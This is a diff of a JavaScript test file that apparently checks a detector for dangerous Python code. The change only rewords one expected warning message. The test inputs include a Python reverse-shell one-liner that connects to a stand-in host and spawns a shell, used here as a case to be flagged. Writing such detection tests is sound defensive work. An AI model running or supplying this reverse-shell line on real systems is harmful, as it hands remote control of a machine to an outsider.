@@ -30,7 +30,7 @@ test.each([
   ["print(urlopen('http://there.example').read())", undefined],
   [
     "import socket,pty;s=socket.socket();s.connect(('there.example',4));pty.spawn('sh')",
-    'Gives a shell to another machine.',
+    'Gives another machine a shell on this one.',
   ],
   ['import socket; print(socket.gethostname())', undefined],
 ])('%s: %s', (code, message) => {
